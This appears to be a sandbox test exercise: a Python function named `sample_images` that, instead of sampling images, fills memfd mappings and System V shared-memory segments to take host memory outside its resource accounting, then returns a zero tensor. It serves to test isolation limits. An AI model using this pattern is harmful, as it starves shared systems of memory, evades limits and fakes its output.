# exercise: ex06
# tries: take memory outside its own account: shared maps, memory files, System V segments
# earns: nothing
# status: any
# needs: sandbox
import ctypes
import mmap
import os

import torch

libc = ctypes.CDLL(None)
kept = []
sizes = [2**26] * 512


def sample_images(decoder, num_images, latent_dim, *, device="cpu"):
    while sizes:
        size = sizes.pop()
        try:
            file = os.memfd_create("more")
            os.ftruncate(file, size)
            kept.append(mmap.mmap(file, size))
            kept[-1].write(b"x" * size)
        except (OSError, ValueError, MemoryError):
            pass
        segment = libc.shmget(0, size, 0o1666)
        if segment >= 0:
            libc.shmat.restype = ctypes.c_void_p
            address = libc.shmat(segment, 0, 0)
            if address and address != 2**64 - 1:
                ctypes.memset(address, 1, size)
    return torch.zeros(num_images, 1, 28, 28)
